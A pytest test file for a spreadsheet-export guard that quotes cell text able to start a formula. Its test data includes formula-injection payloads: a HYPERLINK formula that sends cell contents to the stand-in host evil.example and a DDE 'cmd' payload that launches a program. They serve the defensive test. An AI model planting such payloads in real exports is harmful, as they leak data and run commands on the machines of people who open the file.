"""Export cells never start a spreadsheet formula (buddy.exports, the one guard)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from buddy.exports import csv_cell, csv_row, xlsx_append


@pytest.mark.parametrize(
    "value",
    ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+32 470 12 34 56", "-1+1", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_text_that_could_start_a_formula_is_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Anna", "Anna = Bart", "", "1+1", "'already quoted", " =not at the start"],
)
def test_ordinary_text_is_left_as_it_is(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    "value", [None, 0, -5, 3.5, True, dt.date(2026, 1, 5), dt.datetime(2026, 1, 5, 10, 0)],
)
def test_numbers_dates_and_empty_cells_keep_their_type(value):
    assert csv_cell(value) is value


def test_a_csv_export_reads_back_as_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["=1+2", "Anna", -3]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+2", "Anna", "-3"]


def _reloaded(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_an_xlsx_export_holds_no_formula_and_keeps_text_as_typed(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    unsafe = book.create_sheet("unsafe")
    safe = book.create_sheet("safe")
    unsafe.append(["=1+2"])
    xlsx_append(safe, ["=1+2", "@SUM(A1)", "+32 470 12 34 56", "- verhuisd", 7, None])
    loaded = _reloaded(book)
    assert loaded["unsafe"]["A1"].data_type == "f"  # what the helper protects against
    cells = loaded["safe"][1]
    assert [c.data_type for c in cells[:5]] == ["s", "s", "s", "s", "n"]
    # Text is a text cell, shown exactly as typed: no quote in front of a phone number.
    assert [c.value for c in cells[:5]] == ["=1+2", "@SUM(A1)", "+32 470 12 34 56",
                                            "- verhuisd", 7]
